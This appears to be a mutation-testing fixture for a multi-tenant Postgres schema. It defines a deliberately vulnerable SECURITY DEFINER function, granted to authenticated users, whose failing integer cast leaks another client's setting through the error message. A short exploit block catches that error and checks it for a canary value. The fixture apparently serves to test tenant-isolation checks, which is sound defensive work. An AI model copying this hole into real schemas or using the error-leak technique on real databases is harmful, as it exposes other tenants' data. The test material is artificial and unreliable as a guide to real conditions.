-- mutant: A failing cast quotes a setting of another client
-- base: flows
-- family: function
-- leaks: values of another client
create function flows.application_quota(app uuid) returns integer
language sql stable security definer set search_path = ''
as $$ select (a.settings ->> 'colour')::integer from flows.client_applications a where a.id = app $$;
revoke all on function flows.application_quota(uuid) from public;
grant execute on function flows.application_quota(uuid) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
do $$
begin
  perform flows.application_quota('{{b}}');
exception
  when invalid_text_representation then
    perform set_config('exploit.seen', sqlerrm, true);
end
$$;
select told from current_setting('exploit.seen', true) as told where told like '%canary-globex%';
